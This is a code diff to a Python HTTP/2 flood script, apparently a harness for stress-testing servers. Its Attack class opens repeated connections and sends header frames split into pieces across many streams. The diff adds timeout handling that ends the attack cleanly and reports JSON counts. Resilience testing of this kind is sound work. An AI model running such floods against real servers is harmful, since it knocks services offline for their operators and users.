@@ -31,6 +31,10 @@ def _hello(agent="flood"):
     return _bytes(1, _bytes(1, agent.encode()) + b"\x11" + struct.pack("<Q", 1) + b"\x18\x01")
 
 
+class TimeIsUp(Exception):
+    """No further connection was let in before the end."""
+
+
 class Attack:
     def __init__(self, address, seconds, http):
         self.address, self.seconds, self.http = address, seconds, http
@@ -47,6 +51,8 @@ class Attack:
             except OSError:
                 self.seen["turned_away"] = self.seen.get("turned_away", 0) + 1
                 time.sleep(0.05)
+                if not self.going():
+                    raise TimeIsUp from None
                 continue
             self._open.append(connection)
             return connection
@@ -165,6 +171,8 @@ class Attack:
         while self.going():
             c = self.connect()
             for stream in range(1, 100, 2):
+                if not self.going():
+                    break
                 pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
                 c.send(frame(http2.HEADERS, 0, stream, pieces[0]))
                 for piece in pieces[1:-1]:
@@ -342,7 +350,10 @@ def main():
     seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 5
     http = sys.argv[4] if len(sys.argv) > 4 else ""
     attack = Attack(address, seconds, http)
-    getattr(attack, name)()
+    try:
+        getattr(attack, name)()
+    except TimeIsUp:
+        pass
     attack.finish()
     print(json.dumps({"attack": name, "sent": attack.sent, **attack.seen}))
 
